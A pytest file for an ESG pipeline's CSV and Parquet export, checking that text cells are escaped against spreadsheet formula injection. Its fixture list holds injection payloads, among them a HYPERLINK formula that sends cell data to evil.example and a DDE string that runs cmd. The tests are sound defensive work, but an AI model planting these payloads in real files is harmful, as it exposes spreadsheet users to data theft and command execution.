"""Finding 5: CSV cells from report sentences and catalog names must not run as spreadsheet formulas."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
import sqlalchemy as sa

from esg_pipeline.export import export_marts

# (text written into a mart, what the CSV cell must hold)
CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Scope 1 emissions", "Scope 1 emissions"),
    ("a = b", "a = b"),
]


@pytest.fixture
def marts_url(tmp_path) -> str:
    url = f"duckdb:///{tmp_path / 'wh.duckdb'}"
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.text("create schema marts"))
        conn.execute(sa.text("create table marts.fct_text (id integer, sentence varchar, value double, delta integer)"))
        for number, (text, _) in enumerate(CELLS):
            conn.execute(sa.text("insert into marts.fct_text values (:i, :s, :v, :d)"),
                         {"i": number, "s": text, "v": -12.5 - number, "d": -number})
    engine.dispose()
    return url


def test_text_cells_are_neutralised_and_numbers_stay_numbers(marts_url, tmp_path):
    out = tmp_path / "out"
    export_marts(marts_url, out, ["csv", "parquet"])
    with (out / "fct_text.csv").open(newline="", encoding="utf-8") as handle:
        rows = sorted(csv.DictReader(handle), key=lambda r: int(r["id"]))
    assert [r["sentence"] for r in rows] == [expected for _, expected in CELLS]
    assert [r["value"] for r in rows] == [str(-12.5 - n) for n in range(len(CELLS))]
    assert [r["delta"] for r in rows] == [str(-n) for n in range(len(CELLS))]
    frame = pd.read_csv(out / "fct_text.csv")
    assert pd.api.types.is_float_dtype(frame["value"]) and pd.api.types.is_integer_dtype(frame["delta"])


def test_parquet_keeps_the_text_as_written(marts_url, tmp_path):
    out = tmp_path / "out"
    export_marts(marts_url, out, ["parquet"])
    frame = pd.read_parquet(out / "fct_text.parquet").sort_values("id")
    assert list(frame["sentence"]) == [text for text, _ in CELLS]
